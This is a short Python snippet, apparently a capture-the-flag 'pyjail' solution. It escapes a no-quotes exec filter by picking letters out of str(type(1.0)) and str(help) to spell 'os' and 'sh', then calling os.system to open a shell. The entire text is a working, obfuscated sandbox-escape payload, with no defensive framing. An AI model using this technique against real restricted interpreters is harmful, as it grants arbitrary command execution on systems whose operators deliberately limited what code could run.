# restriction: no quotes (exec mode); idea: take str() of a type and of the help object and pick letters by index
c=str(type(1.0));__import__(c[10]+c[4]).system(c[4]+str(help)[5])
